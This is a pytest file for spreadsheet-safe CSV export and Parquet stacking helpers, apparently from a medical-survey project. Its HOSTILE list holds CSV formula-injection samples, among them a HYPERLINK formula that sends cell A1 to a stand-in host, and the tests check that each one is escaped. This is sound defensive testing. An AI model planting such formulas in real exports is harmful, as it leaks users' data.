"""File helpers: CSV that a French spreadsheet opens as it is and never evaluates; many small Parquet tables
read at once."""

from __future__ import annotations

import pandas as pd

from assistmed.io import (
    parquet_to_spreadsheet_csv,
    read_parquet_stack,
    spreadsheet_text,
    write_parquet,
    write_spreadsheet_csv,
)


HOSTILE = ['=HYPERLINK("http://exemple.invalid/?q="&A1;"clic")', "+33 6 00 00 12 34", "-1", "@SUM(A1:A2)", "\tcmd", "\rx", "  =1+1"]
HARMLESS = ["06 00 00 12 34", "a=b", "Jean-Pierre", "", "1031"]


def test_spreadsheet_csv_neutralises_every_cell_a_spreadsheet_would_execute(tmp_path):
    out = tmp_path / "x.csv"
    write_spreadsheet_csv(pd.DataFrame({"=Colonne": HOSTILE + [""] * 5, "Autre": HARMLESS + [""] * 7}), out)
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == data.count(b"\n") == 13  # header + 12 rows, every line ends CRLF
    back = pd.read_csv(out, sep=";", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(back.columns) == ["'=Colonne", "Autre"]
    assert list(back["'=Colonne"])[:7] == ["'" + v for v in HOSTILE]
    assert list(back["Autre"])[:5] == HARMLESS
    assert not [v for column in back for v in [column, *back[column]] if v and v[0] in "=+-@\t\r"]


def test_numbers_keep_every_digit_with_a_decimal_comma_and_lists_are_joined():
    assert spreadsheet_text(0.2553) == "0,2553"
    assert spreadsheet_text(float("nan")) == "" and spreadsheet_text(None) == "" and spreadsheet_text(pd.NA) == ""
    assert spreadsheet_text(12) == "12"
    assert spreadsheet_text(["a", "-b"]) == "a | -b"
    assert spreadsheet_text(-0.5) == "'-0,5"  # a negative number read as text: never a formula


def test_a_result_table_becomes_a_spreadsheet_csv(tmp_path):
    write_parquet(pd.DataFrame({"scope": ["r"], "prop": [0.25], "excerpts": [["=x", "y"]]}), tmp_path / "t.parquet")
    parquet_to_spreadsheet_csv(tmp_path / "t.parquet", tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_bytes() == "\ufeffscope;prop;excerpts\r\nr;0,25;'=x | y\r\n".encode("utf-8")


def test_stacked_tables_keep_rows_in_order_and_categories_even_with_an_all_missing_or_empty_file(tmp_path):
    opinion = pd.CategoricalDtype(["yes", "no"], ordered=True)
    frames = [
        pd.DataFrame({"practice": ["a", "a"], "opinion": pd.Series(["no", "yes"], dtype=opinion), "km": [1.5, None]}),
        pd.DataFrame({"practice": ["b"], "opinion": pd.Series([None], dtype=opinion), "km": [None]}),
        pd.DataFrame({"practice": pd.Series([], dtype="str"), "opinion": pd.Series([], dtype=opinion), "km": []}),
    ]
    paths = []
    for i, frame in enumerate(frames):
        paths.append(tmp_path / f"{i}.parquet")
        frame.to_parquet(paths[-1])
    stacked = read_parquet_stack(paths)
    assert stacked["practice"].tolist() == ["a", "a", "b"]
    # A pandas concat of these files would fall back to object here (the all-missing file's categories differ).
    assert stacked["opinion"].dtype == opinion
    assert stacked["opinion"].tolist()[:2] == ["no", "yes"] and pd.isna(stacked["opinion"].iloc[2])
    assert stacked["km"].iloc[0] == 1.5 and stacked["km"].iloc[1:].isna().all()
    assert list(read_parquet_stack(paths, columns=["km"]).columns) == ["km"]
